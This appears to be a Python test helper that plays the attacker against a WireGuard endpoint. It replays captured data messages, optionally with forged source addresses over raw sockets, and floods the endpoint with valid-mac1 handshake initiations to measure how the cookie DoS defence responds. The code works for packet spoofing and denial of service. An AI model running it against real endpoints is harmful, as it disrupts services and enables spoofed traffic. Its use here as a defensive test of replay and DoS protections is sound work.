#!/usr/bin/env python3
"""The attacker of test_wg_hostile.sh, against a WireGuard endpoint.

replay PCAP SRC SPORT DST DPORT COUNT raw|udp [TO]
    finds the last data message (type 4, not a keepalive) SRC:SPORT sent to DST:DPORT in an
    Ethernet capture and sends it again COUNT times: "raw" from SRC:SPORT itself (a raw IPv4
    socket, the source forged as the capture has it), "udp" from an ordinary UDP socket, to
    TO:DPORT (default DST).
flood DST DPORT PUBKEY COUNT SECONDS
    sends COUNT handshake initiations (148 bytes, random ephemeral and ciphertext, a valid mac1
    for PUBKEY: they pass the cheap check and would cost a Diffie-Hellman each) spread over
    SECONDS, and counts the cookie replies (type 3, 64 bytes) that come back. Prints
    "sent N cookies M"."""
import base64
import hashlib
import os
import socket
import struct
import sys
import time


def data_message(pcap, src, sport, dst, dport):
    with open(pcap, "rb") as f:
        blob = f.read()
    off, found = 24, None
    while off + 16 <= len(blob):
        caplen = struct.unpack_from("<I", blob, off + 8)[0]
        pkt = blob[off + 16 : off + 16 + caplen]
        off += 16 + caplen
        if len(pkt) < 14 + 20 + 8 or pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != src or socket.inet_ntoa(ip[16:20]) != dst:
            continue
        sp, dp = struct.unpack_from("!HH", ip, ihl)
        payload = ip[ihl + 8 :]
        # A data message with a packet inside: 16-byte header, 16-byte tag, at least 16 bytes.
        if (sp, dp) == (sport, dport) and payload[:1] == b"\x04" and len(payload) > 32:
            found = payload
    if found is None:
        sys.exit("no data message from %s:%d to %s:%d in %s" % (src, sport, dst, dport, pcap))
    return found


def replay(pcap, src, sport, dst, dport, count, how, to=None):
    msg = data_message(pcap, src, int(sport), dst, int(dport))
    if how == "raw":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        udp = struct.pack("!HHHH", int(sport), int(dport), 8 + len(msg), 0) + msg  # no checksum
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        for _ in range(count):
            s.sendto(ip + udp, (dst, 0))  # the kernel fills in the length, id and checksum
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(count):
            s.sendto(msg, (to or dst, int(dport)))
    print("replayed %d bytes %d times" % (len(msg), count))


def flood(dst, dport, pubkey, count, seconds):
    pub = base64.b64decode(pubkey)
    mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    cookies = sent = 0
    start = time.monotonic()
    end = start + seconds + 2  # a sender slower than asked still stops

    def drain():
        nonlocal cookies
        while True:
            try:
                r = s.recv(2048)
            except BlockingIOError:
                return
            if len(r) == 64 and r[0] == 3:
                cookies += 1

    while sent < count and time.monotonic() < end:
        # Paced: message i leaves at start + i * seconds / count.
        due = start + sent * seconds / count
        now = time.monotonic()
        if now < due:
            time.sleep(min(due - now, 0.01))
            drain()
            continue
        body = struct.pack("<I", 1) + os.urandom(4 + 32 + 48 + 28)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        s.sendto(body + mac1 + bytes(16), (dst, int(dport)))
        sent += 1
        drain()
    last = time.monotonic() + 1  # the replies still on their way
    while time.monotonic() < last:
        time.sleep(0.05)
        drain()
    print("sent %d cookies %d" % (sent, cookies))


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "replay":
        replay(*sys.argv[2:7], int(sys.argv[7]), *sys.argv[8:10])
    elif cmd == "flood":
        flood(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), float(sys.argv[6]))
    else:
        sys.exit(__doc__)
